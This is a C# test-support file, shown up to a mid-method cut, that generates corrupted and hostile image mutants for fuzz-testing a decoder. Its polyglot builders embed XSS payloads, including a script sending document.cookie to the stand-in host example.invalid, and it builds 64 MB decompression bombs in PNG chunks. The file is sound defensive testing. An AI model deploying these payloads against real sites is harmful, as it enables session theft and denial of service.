using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace ProgressTracker.Imaging.Tests.Support;

/// <summary>One damaged or hostile file, with the recipe that made it (enough to rebuild it by hand).</summary>
internal sealed record Mutant(string Sample, string Kind, string Recipe, byte[] Bytes)
{
    public override string ToString() => $"{Sample} | {Kind}: {Recipe} ({Bytes.Length} bytes)";
}

/// <summary>
/// Deterministic mutants of valid samples: truncations, single and burst bit flips in header and body, zeroed
/// ranges, forged dimension and size fields (with PNG CRCs recomputed so the forgery reaches the decoder),
/// duplicated and removed markers/chunks/boxes, and polyglots. Every random choice comes from a fixed seed.
/// </summary>
internal static class Mutator
{
    public const string Truncation = "truncation";
    public const string HeaderBitFlip = "bit flip (header)";
    public const string BodyBitFlip = "bit flip (body)";
    public const string Burst = "burst of flipped bits";
    public const string Zeroed = "zeroed range";
    public const string Splice = "spliced range";
    public const string ForgedDimensions = "forged dimensions";
    public const string ForgedField = "forged field";
    public const string Structure = "duplicated/removed structure";
    public const string Polyglot = "polyglot";

    public static List<Mutant> For(Sample sample, int seed)
    {
        var list = new Builder(sample);
        var layout = Layout(sample);
        Generic(list, sample.Bytes, layout, seed);
        switch (sample.Format)
        {
            case ImageFormatKind.Jpeg: Jpeg(list, sample, seed); break;
            case ImageFormatKind.Png: Png(list, sample, seed); break;
            case ImageFormatKind.WebP: WebP(list, sample); break;
            case ImageFormatKind.Tiff: Tiff(list, sample); break;
            case ImageFormatKind.Avif or ImageFormatKind.Heic: IsoMedia(list, sample, seed); break;
        }
        return list.Items;
    }

    /// <summary>A handful of mutants for a large file: each costs a full-size decode.</summary>
    public static List<Mutant> ForFullSize(Sample sample, int seed)
    {
        var list = new Builder(sample);
        var f = sample.Bytes;
        var random = new Random(seed);
        var layout = Layout(sample);
        list.Add(Truncation, $"keep first {f.Length / 2} of {f.Length} bytes", f[..(f.Length / 2)]);
        list.Add(Truncation, $"keep first {f.Length - 1000} of {f.Length} bytes", f[..^1000]);
        for (var i = 0; i < 2; i++)
        {
            var at = random.Next(layout.BodyStart, f.Length - 2);
            var bit = 1 << random.Next(8);
            list.Add(BodyBitFlip, $"byte {at} ^= 0x{bit:X2}", Patch(f, g => g[at] ^= (byte)bit));
        }
        var burstAt = random.Next(layout.BodyStart, f.Length - 4096);
        list.Add(Burst, $"bytes {burstAt}..{burstAt + 4095} XOR 0xA5", Patch(f, g => Xor(g, burstAt, 4096, 0xA5)));
        var sof = JpegSegments(f).First(s => IsStartOfFrame(s.Marker));
        list.Add(ForgedDimensions, $"SOF{sof.Marker - 0xC0} says {sample.Width}×{sample.Height * 2}",
            Patch(f, g => BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(sof.Start + 5), (ushort)(sample.Height * 2))));
        list.Add(Polyglot, "JPEG followed by a ZIP archive", Cat(f, Zip()));
        return list.Items;
    }

    /// <summary>Files that are two things at once, built from a JPEG, a PNG and a WebP sample.</summary>
    public static List<Mutant> Polyglots(Sample jpegSample, Sample pngSample, Sample webpSample)
    {
        var list = new Builder(new Sample("polyglot", jpegSample.Format, 0, 0, []));
        byte[] jpeg = jpegSample.Bytes, png = pngSample.Bytes, webp = webpSample.Bytes, zip = Zip();
        var shortHtml = "<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>\n"u8.ToArray();
        var longHtml = Encoding.UTF8.GetBytes("<!DOCTYPE html><html><head><title>photo</title></head><body>" +
            string.Concat(Enumerable.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 12)) + "<script>fetch('/x')</script>\n");
        var script = "<html><script>document.location='https://example.invalid/'+document.cookie</script></html>"u8.ToArray();

        list.Add(Polyglot, "JPEG followed by a ZIP archive", Cat(jpeg, zip));
        list.Add(Polyglot, "ZIP archive followed by a JPEG", Cat(zip, jpeg));
        list.Add(Polyglot, "ZIP archive holding the JPEG (stored, uncompressed)", Zip(("photo.jpg", jpeg)));
        list.Add(Polyglot, "PDF header followed by a JPEG", Cat("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n"u8.ToArray(), jpeg));
        list.Add(Polyglot, "short HTML page followed by a JPEG", Cat(shortHtml, jpeg));
        list.Add(Polyglot, "long HTML page (over 256 bytes) followed by a JPEG", Cat(longHtml, jpeg));
        list.Add(Polyglot, "JPEG followed by an HTML page with a script", Cat(jpeg, script));
        list.Add(Polyglot, "JPEG whose comment segment holds an HTML page with a script", InsertAfterSoi(jpeg, Segment(0xFE, script)));
        list.Add(Polyglot, "JPEG whose comment segment holds a ZIP archive", InsertAfterSoi(jpeg, Segment(0xFE, zip)));
        list.Add(Polyglot, "GIF89a header followed by a JPEG", Cat("GIF89a"u8.ToArray(), jpeg));
        list.Add(Polyglot, "BMP signature followed by a JPEG", Cat("BM"u8.ToArray(), jpeg));
        list.Add(Polyglot, "UTF-8 byte order mark followed by a JPEG", Cat([0xEF, 0xBB, 0xBF], jpeg));
        list.Add(Polyglot, "MP4 'ftyp isom' box followed by a JPEG", Cat(ForgedFiles.Ftyp("isom", "isom", "mp41"), jpeg));
        list.Add(Polyglot, "HEIC 'ftyp heic' box followed by a JPEG", Cat(ForgedFiles.Ftyp("heic", "mif1", "heic"), jpeg));
        list.Add(Polyglot, "AVIF 'ftyp avif' box followed by a PNG", Cat(ForgedFiles.Ftyp("avif", "mif1", "avif"), png));
        list.Add(Polyglot, "RIFF/WEBP header followed by a JPEG", Cat(Riff(jpeg.Length + 4), jpeg));
        list.Add(Polyglot, "TIFF signature followed by a JPEG", Cat("II*\0"u8.ToArray(), jpeg));
        list.Add(Polyglot, "JPEG followed by a PNG", Cat(jpeg, png));
        list.Add(Polyglot, "PNG followed by a JPEG", Cat(png, jpeg));
        list.Add(Polyglot, "JPEG followed by itself", Cat(jpeg, jpeg));
        list.Add(Polyglot, "PNG followed by a ZIP archive", Cat(png, zip));
        list.Add(Polyglot, "PNG with a ZIP archive in a private ancillary chunk", PngInsertAfterIhdr(png, "zipD", zip));
        list.Add(Polyglot, "PNG with an HTML page in a tEXt chunk", PngInsertAfterIhdr(png, "tEXt", Cat("Comment\0"u8.ToArray(), script)));
        list.Add(Polyglot, "WebP followed by a ZIP archive (outside the RIFF size)", Cat(webp, zip));
        list.Add(Polyglot, "SVG document wrapping a PNG data URI",
            Encoding.ASCII.GetBytes($"<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"data:image/png;base64,{Convert.ToBase64String(png)}\"/></svg>"));
        return list.Items;
    }

    // ---------------------------------------------------------------- generic mutations

    private readonly record struct FileLayout(List<(int Start, int End)> Header, int BodyStart);

    /// <summary>Where a format keeps its header (parsed structure) and where its compressed picture data begins.</summary>
    private static FileLayout Layout(Sample sample)
    {
        var f = sample.Bytes;
        switch (sample.Format)
        {
            case ImageFormatKind.Jpeg:
            {
                var sos = JpegSegments(f).First(s => s.Marker == 0xDA);
                return new([(0, sos.End)], sos.End);
            }
            case ImageFormatKind.Png:
            {
                var idat = PngChunks(f).First(c => c.Type == "IDAT");
                return new([(0, idat.DataStart)], idat.DataStart);
            }
            case ImageFormatKind.Tiff:
            {
                var ifd = TiffIfd.Read(f, 0);
                var ranges = new List<(int, int)> { (0, 8), (ifd.Offset, ifd.End) };
                ranges.AddRange(ifd.OutOfLineValues());
                return new(ranges, 8);
            }
            case ImageFormatKind.Avif or ImageFormatKind.Heic:
            {
                var mdat = IsoBmff.Children(f, 0, f.Length).First(b => b.Type == "mdat");
                return new([(0, mdat.Body)], mdat.Body);
            }
            default: // WebP: RIFF header, chunk header and the codec's frame header.
                return new([(0, 40)], 40);
        }
    }

    private static void Generic(Builder list, byte[] f, FileLayout layout, int seed)
    {
        var random = new Random(seed);
        var headerEnd = layout.Header.Max(r => r.End);
        var cuts = new SortedSet<int> { 1, 2, 3, 4, 5, 8, 11, 12, 16, 20, 24, 32, 48, 64, 100, 128, 200, 256, 300, 400, 512 };
        foreach (var (start, end) in layout.Header)
        {
            cuts.Add(start + 1);
            cuts.Add((start + end) / 2);
            cuts.Add(end - 1);
            cuts.Add(end);
        }
        foreach (var fraction in new[] { 0.25, 0.5, 0.75, 0.9, 0.95, 0.99 }) cuts.Add((int)(f.Length * fraction));
        cuts.Add(f.Length - 1);
        cuts.Add(f.Length - 2);
        foreach (var cut in cuts.Where(c => c > 0 && c < f.Length))
            list.Add(Truncation, $"keep first {cut} of {f.Length} bytes", f[..cut]);

        for (var i = 0; i < 14; i++)
        {
            var (start, end) = layout.Header[random.Next(layout.Header.Count)];
            var at = random.Next(start, end);
            var bit = 1 << random.Next(8);
            list.Add(HeaderBitFlip, $"byte {at} ^= 0x{bit:X2}", Patch(f, g => g[at] ^= (byte)bit));
        }
        for (var i = 0; i < 12; i++)
        {
            var at = BodyPosition(random, layout, f.Length);
            var bit = 1 << random.Next(8);
            list.Add(BodyBitFlip, $"byte {at} ^= 0x{bit:X2}", Patch(f, g => g[at] ^= (byte)bit));
        }
        for (var i = 0; i < 8; i++)
        {
            var inHeader = i < 3;
            var length = random.Next(2, 65);
            var (start, end) = inHeader ? layout.Header[random.Next(layout.Header.Count)] : (layout.BodyStart, f.Length);
            var at = Math.Max(0, Math.Min(random.Next(start, end), f.Length - length));
            var key = (byte)random.Next(1, 256);
            list.Add(Burst, $"{(inHeader ? "header" : "body")} bytes {at}..{at + length - 1} XOR 0x{key:X2}", Patch(f, g => Xor(g, at, length, key)));
        }

        var body = f.Length - layout.BodyStart;
        void Zero(string where, int at, int length)
        {
            length = Math.Min(length, f.Length - at);
            if (at >= 0 && length > 0) list.Add(Zeroed, $"{where}: bytes {at}..{at + length - 1} set to 0", Patch(f, g => Array.Clear(g, at, length)));
        }
        Zero("first header bytes after the signature", 4, 16);
        Zero("end of the header", Math.Max(0, headerEnd - 32), 32);
        Zero("start of the picture data", layout.BodyStart, 64);
        Zero("1 KB inside the picture data", layout.BodyStart + body / 3, 1024);
        Zero("middle tenth of the picture data", layout.BodyStart + body * 9 / 20, body / 10);
        Zero("last 64 bytes", f.Length - 64, 64);

        var fillAt = layout.BodyStart + body / 2;
        list.Add(Splice, $"bytes {fillAt}..{fillAt + 255} set to 0xFF", Patch(f, g => Array.Fill(g, (byte)0xFF, fillAt, Math.Min(256, g.Length - fillAt))));
        var copyFrom = layout.BodyStart + body / 4;
        var copyLength = Math.Min(512, body / 4);
        list.Add(Splice, $"bytes {copyFrom}..{copyFrom + copyLength - 1} inserted again at {copyFrom + copyLength}",
            Cat(f[..(copyFrom + copyLength)], f[copyFrom..(copyFrom + copyLength)], f[(copyFrom + copyLength)..]));
        list.Add(Splice, $"bytes {copyFrom}..{copyFrom + copyLength - 1} removed", Cat(f[..copyFrom], f[(copyFrom + copyLength)..]));
        list.Add(Splice, "picture data replaced by seeded noise", Cat(f[..layout.BodyStart], TestImages.Noise(body, seed)));
    }

    private static int BodyPosition(Random random, FileLayout layout, int length)
    {
        while (true)
        {
            var at = random.Next(layout.BodyStart, length);
            if (!layout.Header.Any(r => at >= r.Start && at < r.End)) return at;
        }
    }

    // ---------------------------------------------------------------- JPEG

    private readonly record struct JpegSegment(byte Marker, int Start, int End)
    {
        /// <summary>Offset of the segment's payload (after FF xx and the 2-byte length).</summary>
        public int Payload => Start + 4;
    }

    /// <summary>Marker segments up to and including EOI; entropy-coded data between scans is skipped.</summary>
    private static List<JpegSegment> JpegSegments(byte[] f)
    {
        var segments = new List<JpegSegment> { new(0xD8, 0, 2) };
        var at = 2;
        while (at + 4 <= f.Length && f[at] == 0xFF)
        {
            var marker = f[at + 1];
            if (marker == 0xD9)
            {
                segments.Add(new(marker, at, at + 2));
                break;
            }
            var end = at + 2 + BinaryPrimitives.ReadUInt16BigEndian(f.AsSpan(at + 2));
            segments.Add(new(marker, at, end));
            at = end;
            if (marker != 0xDA) continue;
            while (at + 1 < f.Length && !(f[at] == 0xFF && f[at + 1] is not (0x00 or 0xFF) and not (>= 0xD0 and <= 0xD7))) at++;
        }
        return segments;
    }

    private static bool IsStartOfFrame(byte marker) => marker is >= 0xC0 and <= 0xCF and not (0xC4 or 0xC8 or 0xCC);

    private static void Jpeg(Builder list, Sample sample, int seed)
    {
        var f = sample.Bytes;
        var segments = JpegSegments(f);
        var sof = segments.First(s => IsStartOfFrame(s.Marker));
        var sos = segments.First(s => s.Marker == 0xDA);
        var dqt = segments.Where(s => s.Marker == 0xDB).ToList();
        var dht = segments.Where(s => s.Marker == 0xC4).ToList();
        var app1 = segments.Where(s => s.Marker == 0xE1).ToList();
        int w = sample.Width, h = sample.Height;

        foreach (var (fw, fh, why) in new (int, int, string)[]
        {
            (65535, 65535, "4.3 gigapixels"), (65500, 1, "a 65500-pixel line"), (1, 65500, "a 65500-pixel column"),
            (10000, 10000, "exactly the 100-megapixel limit"), (10001, 10000, "just over the limit"), (w * 2, h * 2, "twice the real size"),
            (w + 1, h, "one column more than coded"), (w, h + 7, "seven rows more than coded"), (1, 1, "one pixel"),
            (w / 2, h / 2, "half the real size"), (0, h, "zero width"), (w, 0, "zero height (a DNL frame)"),
        })
        {
            list.Add(ForgedDimensions, $"SOF says {fw}×{fh} ({why})", Patch(f, g =>
            {
                BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(sof.Start + 5), (ushort)fh);
                BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(sof.Start + 7), (ushort)fw);
            }));
        }

        foreach (var (offset, value, what) in new (int, byte, string)[]
        {
            (4, 12, "sample precision 12"), (4, 16, "sample precision 16"), (4, 0, "sample precision 0"),
            (9, 0, "component count 0"), (9, 4, "component count 4"), (9, 255, "component count 255"),
            (11, 0x00, "first component sampling 0×0"), (11, 0xFF, "first component sampling 15×15"), (11, 0x44, "first component sampling 4×4"),
            (12, 3, "first component quantisation table 3"), (12, 15, "first component quantisation table 15"),
        })
        {
            list.Add(ForgedField, $"SOF {what}", Patch(f, g => g[sof.Start + offset] = value));
        }
        foreach (var marker in new byte[] { 0xC0, 0xC1, 0xC2, 0xC3, 0xC9, 0xCF }.Where(m => m != sof.Marker))
            list.Add(ForgedField, $"frame marker changed to FF {marker:X2}", Patch(f, g => g[sof.Start + 1] = marker));

        list.Add(ForgedField, "SOF length 0xFFFF", Patch(f, g => BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(sof.Start + 2), 0xFFFF)));
        list.Add(ForgedField, "first DQT length 0xFFFF", Patch(f, g => BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(dqt[0].Start + 2), 0xFFFF)));
        list.Add(ForgedField, "first DQT table all zero", Patch(f, g => Array.Clear(g, dqt[0].Payload + 1, 64)));
        list.Add(ForgedField, "first DHT length one too long", Patch(f, g => g[dht[0].Start + 3]++));
        list.Add(ForgedField, "first DHT code counts all 0xFF", Patch(f, g => Array.Fill(g, (byte)0xFF, dht[0].Payload + 1, 16)));
        list.Add(ForgedField, "first DHT table class/index 0xFF", Patch(f, g => g[dht[0].Payload] = 0xFF));
        list.Add(ForgedField, "SOS component count 0", Patch(f, g => g[sos.Payload] = 0));
        list.Add(ForgedField, "SOS component count 4", Patch(f, g => g[sos.Payload] = 4));
        list.Add(ForgedField, "SOS spectral selection 63..0, approximation 0xFF", Patch(f, g =>
        {
            g[sos.End - 3] = 63;
            g[sos.End - 2] = 0;
            g[sos.End - 1] = 0xFF;
        }));
        list.Add(ForgedField, "SOS length 0xFFFF", Patch(f, g => BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(sos.Start + 2), 0xFFFF)));
        list.Add(ForgedField, "restart interval 1 declared (DRI) without any restart markers",
            Cat(f[..sos.Start], [0xFF, 0xDD, 0x00, 0x04, 0x00, 0x01], f[sos.Start..]));

        foreach (var segment in app1)
        {
            list.Add(ForgedField, $"APP1 at {segment.Start}: length 0xFFFF", Patch(f, g => BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(segment.Start + 2), 0xFFFF)));
            list.Add(ForgedField, $"APP1 at {segment.Start}: length 2", Patch(f, g => BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(segment.Start + 2), 2)));
            ExifForgeries(list, f, segment.Payload + 6, segment.End, $"APP1 at {segment.Start}");
            var random = new Random(seed + segment.Start);
            for (var i = 0; i < 6; i++)
            {
                var at = random.Next(segment.Payload, segment.End);
                var bit = 1 << random.Next(8);
                list.Add(HeaderBitFlip, $"EXIF (APP1 at {segment.Start}) byte {at} ^= 0x{bit:X2}", Patch(f, g => g[at] ^= (byte)bit));
            }
        }

        byte[] Without(Func<JpegSegment, bool> drop) =>
            segments.Where(s => !drop(s)).Aggregate(new List<byte>(), (acc, s) =>
            {
                acc.AddRange(f[s.Start..NextStart(segments, s, f.Length)]);
                return acc;
            }).ToArray();
        list.Add(Structure, "first DQT removed", Without(s => s.Start == dqt[0].Start));
        list.Add(Structure, "every DQT removed", Without(s => s.Marker == 0xDB));
        list.Add(Structure, "first DHT removed", Without(s => s.Start == dht[0].Start));
        list.Add(Structure, "every DHT removed", Without(s => s.Marker == 0xC4));
        list.Add(Structure, "frame header (SOF) removed", Without(s => s.Start == sof.Start));
        list.Add(Structure, "every APPn segment removed", Without(s => s.Marker is >= 0xE0 and <= 0xEF));
        list.Add(Structure, "first scan header (SOS) removed, its data kept", Cat(f[..sos.Start], f[sos.End..]));
        list.Add(Structure, "EOI removed", f[..^2]);
        list.Add(Structure, "EOI doubled", Cat(f, [0xFF, 0xD9]));
        list.Add(Structure, "second SOI right after the first", Cat(f[..2], f));
        list.Add(Structure, "frame header (SOF) duplicated", Cat(f[..sof.End], f[sof.Start..sof.End], f[sof.End..]));
        list.Add(Structure, "second frame header claiming 20000×20000", Cat(f[..sof.End], Patch(f[sof.Start..sof.End], g =>
        {
            BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(5), 20000);
            BinaryPrimitives.WriteUInt16BigEndian(g.AsSpan(7), 20000);
        }), f[sof.End..]));
        list.Add(Structure, "scan header (SOS) duplicated", Cat(f[..sos.End], f[sos.Start..sos.End], f[sos.End..]));
        var noDqt = Without(s => s.Marker == 0xDB);
        list.Add(Structure, "quantisation tables (DQT) moved after the last scan", Cat(noDqt[..^2], f[dqt[0].Start..dqt[0].End], [0xFF, 0xD9]));
        list.Add(Structure, "EOI inserted right before the first scan", Cat(f[..sos.Start], [0xFF, 0xD9], f[sos.Start..]));
        var middle = sos.End + (f.Length - sos.End) / 2;
        list.Add(Structure, "EOI inserted in the middle of the entropy-coded data", Cat(f[..middle], [0xFF, 0xD9], f[middle..]));
        list.Add(Structure, "restart marker inserted in the middle of the entropy-coded data", Cat(f[..middle], [0xFF, 0xD0], f[middle..]));
        var app = segments.First(s => s.Marker is >= 0xE0 and <= 0xEF);
        list.Add(Structure, $"APP{app.Marker - 0xE0} segment repeated 40 times", Cat(f[..app.Start], Repeat(f[app.Start..app.End], 40), f[app.Start..]));
        list.Add(Structure, "2000 empty COM segments", Cat(f[..2], Repeat([0xFF, 0xFE, 0x00, 0x02], 2000), f[2..]));
        list.Add(Structure, "entropy-coded data doubled", Cat(f[..^2], f[sos.End..^2], [0xFF, 0xD9]));
    }

    private static int NextStart(List<JpegSegment> segments, JpegSegment s, int length)
    {
        // Scans own the entropy-coded data that follows them.
        var index = segments.IndexOf(s);
        return index + 1 < segments.Count ? segments[index + 1].Start : length;
    }

    /// <summary>Forgeries inside an EXIF TIFF structure: entry counts, looping IFDs, thumbnail offsets and lengths.</summary>
    private static void ExifForgeries(Builder list, byte[] f, int tiffStart, int end, string where)
    {
        if (end - tiffStart < 16 || !(f.AsSpan(tiffStart).StartsWith("II*\0"u8) || f.AsSpan(tiffStart).StartsWith("MM\0*"u8))) return;
        var ifd0 = TiffIfd.Read(f, tiffStart);
        list.Add(ForgedField, $"{where}: EXIF IFD0 entry count 0xFFFF", Patch(f, g => ifd0.WriteShort(g, ifd0.Offset, 0xFFFF)));
        list.Add(ForgedField, $"{where}: EXIF IFD0 next-IFD pointer loops to IFD0", Patch(f, g => ifd0.WriteLong(g, ifd0.End - 4, (uint)(ifd0.Offset - tiffStart))));
        list.Add(ForgedField, $"{where}: EXIF IFD0 offset past the end", Patch(f, g => ifd0.WriteLong(g, tiffStart + 4, 0x7FFFFFF0)));
        var next = ifd0.ReadLong(f, ifd0.End - 4);
        if (next == 0 || tiffStart + next + 2 > end) return;
        var ifd1 = TiffIfd.Read(f, tiffStart, (int)next);
        foreach (var (tag, value, what) in new (ushort, uint, string)[]
        {
            (0x0201, 0x7FFFFFF0, "thumbnail offset past the end"), (0x0202, 0x7FFFFFF0, "thumbnail length 2 GB"),
            (0x0202, 0, "thumbnail length 0"), (0x0201, 0, "thumbnail offset 0 (the TIFF header)"),
        })
        {
            if (ifd1.Find(tag) is { } entry) list.Add(ForgedField, $"{where}: EXIF {what}", Patch(f, g => ifd1.WriteLong(g, entry + 8, value)));
        }
    }

    // ---------------------------------------------------------------- PNG

    private readonly record struct PngChunkAt(string Type, int Start, int DataStart, int Length)
    {
        public int End => DataStart + Length + 4;
    }

    private static List<PngChunkAt> PngChunks(byte[] f)
    {
        var chunks = new List<PngChunkAt>();
        var at = 8;
        while (at + 12 <= f.Length)
        {
            var length = (int)BinaryPrimitives.ReadUInt32BigEndian(f.AsSpan(at));
            chunks.Add(new(Encoding.ASCII.GetString(f, at + 4, 4), at, at + 8, length));
            at += 12 + length;
        }
        return chunks;
    }

    private static byte[] PngChunk(string type, byte[] data)
    {
        var chunk = new byte[12 + data.Length];
        BinaryPrimitives.WriteInt32BigEndian(chunk, data.Length);
        Encoding.ASCII.GetBytes(type).CopyTo(chunk, 4);
        data.CopyTo(chunk, 8);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + data.Length), ForgedFiles.Crc32(chunk[4..(8 + data.Length)]));
        return chunk;
    }

    private static byte[] PngInsertAfterIhdr(byte[] png, string type, byte[] data)
    {
        var ihdr = PngChunks(png)[0];
        return Cat(png[..ihdr.End], PngChunk(type, data), png[ihdr.End..]);
    }

    /// <summary>Rewrites a chunk's data and recomputes its CRC, so libpng's CRC check lets the forgery through.</summary>
    private static byte[] PngWithData(byte[] png, PngChunkAt chunk, Action<byte[]> change)
    {
        var data = png[chunk.DataStart..(chunk.DataStart + chunk.Length)];
        change(data);
        return Cat(png[..chunk.Start], PngChunk(chunk.Type, data), png[chunk.End..]);
    }

    private static void Png(Builder list, Sample sample, int seed)
    {
        var f = sample.Bytes;
        var chunks = PngChunks(f);
        var ihdr = chunks[0];
        var idats = chunks.Where(c => c.Type == "IDAT").ToList();
        var iend = chunks.Single(c => c.Type == "IEND");
        int w = sample.Width, h = sample.Height;

        foreach (var (fw, fh, why) in new (uint, uint, string)[]
        {
            (0x7FFFFFFF, 1, "the largest legal width"), (1, 0x7FFFFFFF, "the largest legal height"), (0x80000000, 1, "beyond the PNG maximum"),
            (10000, 10000, "exactly the 100-megapixel limit"), (65535, 65535, "4.3 gigapixels"), ((uint)w * 2, (uint)h, "twice as wide as coded"),
            ((uint)w, (uint)h * 2, "twice as tall as coded"), ((uint)w - 1, (uint)h, "one column fewer"), ((uint)w, (uint)h - 1, "one row fewer"),
            (1, 1, "one pixel"), (0, (uint)h, "zero width"),
        })
        {
            list.Add(ForgedDimensions, $"IHDR says {fw}×{fh} ({why}), CRC recomputed", PngWithData(f, ihdr, d =>
            {
                BinaryPrimitives.WriteUInt32BigEndian(d, fw);
                BinaryPrimitives.WriteUInt32BigEndian(d.AsSpan(4), fh);
            }));
        }
        list.Add(ForgedDimensions, $"IHDR says {w * 2}×{h} with the stale CRC", Patch(f, g => BinaryPrimitives.WriteUInt32BigEndian(g.AsSpan(ihdr.DataStart), (uint)w * 2)));

        foreach (var (offset, value, what) in new (int, byte, string)[]
        {
            (8, 16, "bit depth 16"), (8, 1, "bit depth 1"), (8, 3, "bit depth 3 (invalid)"), (8, 0, "bit depth 0"),
            (9, 0, "colour type grey"), (9, 3, "colour type palette without a PLTE"), (9, 4, "colour type grey + alpha"),
            (9, 5, "colour type 5 (invalid)"), (9, 2, "colour type RGB"), (9, 6, "colour type RGBA"),
            (10, 1, "compression method 1"), (11, 1, "filter method 1"), (12, 1, "Adam7 interlacing"), (12, 0, "no interlacing"), (12, 2, "interlace method 2"),
        })
        {
            if (f[ihdr.DataStart + offset] != value)
                list.Add(ForgedField, $"IHDR {what}, CRC recomputed", PngWithData(f, ihdr, d => d[offset] = value));
        }

        var firstIdat = idats[0];
        list.Add(ForgedField, "IDAT length 0x7FFFFFFF", Patch(f, g => BinaryPrimitives.WriteUInt32BigEndian(g.AsSpan(firstIdat.Start), 0x7FFFFFFF)));
        list.Add(ForgedField, "IDAT length one more than stored", Patch(f, g => BinaryPrimitives.WriteUInt32BigEndian(g.AsSpan(firstIdat.Start), (uint)firstIdat.Length + 1)));
        list.Add(ForgedField, "IDAT CRC wrong", Patch(f, g => g[firstIdat.End - 1] ^= 0x01));
        list.Add(ForgedField, "zlib header: window size 2^15 → invalid, CRC recomputed", PngWithData(f, firstIdat, d => d[0] = 0x88));
        list.Add(ForgedField, "zlib header check bits broken, CRC recomputed", PngWithData(f, firstIdat, d => d[1] ^= 0x01));
        list.Add(ForgedField, "zlib preset-dictionary flag set, CRC recomputed", PngWithData(f, firstIdat, d =>
        {
            d[1] |= 0x20;
            d[1] = (byte)(d[1] - ((d[0] * 256 + d[1]) % 31)); // keep the FCHECK valid
        }));
        var random = new Random(seed);
        for (var i = 0; i < 10; i++)
        {
            var at = random.Next(2, firstIdat.Length);
            var bit = 1 << random.Next(8);
            list.Add(BodyBitFlip, $"IDAT data byte {at} ^= 0x{bit:X2}, CRC recomputed (reaches zlib and the filters)",
                PngWithData(f, firstIdat, d => d[at] ^= (byte)bit));
        }
        list.Add(BodyBitFlip, "IDAT data past the zlib header replaced by noise, CRC recomputed",
            PngWithData(f, firstIdat, d => TestImages.Noise(d.Length - 2, seed).CopyTo(d, 2)));
        list.Add(BodyBitFlip, "row filter bytes forged to 0xFF (deflate stream rebuilt)", RecompressIdat(f, idats, raw =>
        {
            var stride = raw.Length / h;
            for (var y = 0; y < h; y += 3) raw[y * stride] = 0xFF;
        }));
        list.Add(BodyBitFlip, "image data one row short (deflate stream rebuilt)", RecompressIdat(f, idats, raw => { }, dropBytes: 1 + w));
        list.Add(BodyBitFlip, "image data with 64 KB extra (deflate stream rebuilt)", RecompressIdat(f, idats, raw => { }, extraBytes: 65536));

        byte[] WithoutChunks(Func<PngChunkAt, bool> drop) =>
            Cat(f[..8], chunks.Where(c => !drop(c)).SelectMany(c => f[c.Start..c.End]).ToArray());
        list.Add(Structure, "IEND removed", WithoutChunks(c => c.Type == "IEND"));
        list.Add(Structure, "every IDAT removed", WithoutChunks(c => c.Type == "IDAT"));
        list.Add(Structure, "IHDR removed", WithoutChunks(c => c.Type == "IHDR"));
        list.Add(Structure, "IHDR duplicated", Cat(f[..ihdr.End], f[ihdr.Start..ihdr.End], f[ihdr.End..]));
        list.Add(Structure, "IDAT data duplicated", Cat(f[..iend.Start], idats.SelectMany(c => f[c.Start..c.End]).ToArray(), f[iend.Start..]));
        list.Add(Structure, "IEND moved before the image data", Cat(f[..firstIdat.Start], f[iend.Start..iend.End], f[firstIdat.Start..iend.Start]));
        list.Add(Structure, "image data split into 64-byte IDAT chunks", SplitIdat(f, idats, 64));
        list.Add(Structure, "unknown critical chunk 'ABCD' after IHDR", PngInsertAfterIhdr(f, "ABCD", new byte[16]));
        list.Add(Structure, "unknown ancillary chunk 'abCd' after IHDR", PngInsertAfterIhdr(f, "abCd", new byte[16]));
        list.Add(Structure, "PLTE with 256 entries in a true-colour image", PngInsertAfterIhdr(f, "PLTE", TestImages.Noise(768, seed)));
        list.Add(Structure, "PLTE with 1000 bytes (not a multiple of 3)", PngInsertAfterIhdr(f, "PLTE", TestImages.Noise(1000, seed)));
        list.Add(Structure, "tRNS of 1000 bytes", PngInsertAfterIhdr(f, "tRNS", new byte[1000]));
        list.Add(Structure, "iCCP with a garbage profile", PngInsertAfterIhdr(f, "iCCP", Cat("icc\0\0"u8.ToArray(), Deflate(TestImages.Noise(600, seed)))));
        list.Add(Structure, "iCCP whose profile inflates to 64 MB (decompression bomb in metadata)",
            PngInsertAfterIhdr(f, "iCCP", Cat("bomb\0\0"u8.ToArray(), Deflate(new byte[64 << 20]))));
        list.Add(Structure, "zTXt that inflates to 64 MB (decompression bomb in metadata)",
            PngInsertAfterIhdr(f, "zTXt", Cat("Comment\0\0"u8.ToArray(), Deflate(new byte[64 << 20]))));
        list.Add(Structure, "iTXt with a broken compressed text", PngInsertAfterIhdr(f, "iTXt", Cat("XML:com.adobe.xmp\0\x01\0\0\0"u8.ToArray(), TestImages.Noise(200, seed))));
        list.Add(Structure, "eXIf with garbage", PngInsertAfterIhdr(f, "eXIf", Cat("MM\0*\0\0\0\x08\xFF\xFF"u8.ToArray(), TestImages.Noise(100, seed))));
        list.Add(Structure, "3000 tEXt chunks", Cat(f[..ihdr.End], Repeat(PngChunk("tEXt", "Comment\0hello"u8.ToArray()), 3000), f[ihdr.End..]));
    }

    private static byte[] SplitIdat(byte[] f, List<PngChunkAt> idats, int size)
    {
        var data = idats.SelectMany(c => f[c.DataStart..(c.DataStart + c.Length)]).ToArray();
        var split = data.Chunk(size).SelectMany(part => PngChunk("IDAT", part)).ToArray();
        return Cat(f[..idats[0].Start], split, f[idats[^1].End..]);
    }

    /// <summary>Inflates the image data, changes it, and writes a valid deflate stream back in one IDAT.</summary>
    private static byte[] RecompressIdat(byte[] f, List<PngChunkAt> idats, Action<byte[]> change, int dropBytes = 0, int extraBytes = 0)
    {
        var compressed = idats.SelectMany(c => f[c.DataStart..(c.DataStart + c.Length)]).ToArray();
        using var inflater = new ZLibStream(new MemoryStream(compressed), CompressionMode.Decompress);
        using var raw = new MemoryStream();
        inflater.CopyTo(raw);
        var bytes = raw.ToArray();
        change(bytes);
